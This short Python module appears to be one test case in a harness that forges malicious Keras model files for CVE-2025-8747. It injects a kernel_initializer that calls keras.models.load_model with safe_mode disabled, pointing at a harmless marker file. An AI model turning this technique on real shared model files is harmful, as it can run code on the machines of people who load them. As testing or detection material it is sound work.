"""A function of Keras that loads another model (CVE-2025-8747)."""

from pathlib import Path

from forging import BOTH, MARKER, update_config

FORMATS = BOTH
CHECK, SAYS = "format", "'load_model'"


def attack(path: Path) -> None:
    loader = {
        "module": "keras.models",
        "class_name": "load_model",
        "config": {"filepath": str(MARKER), "safe_mode": False},
    }
    update_config(path, kernel_initializer=loader)
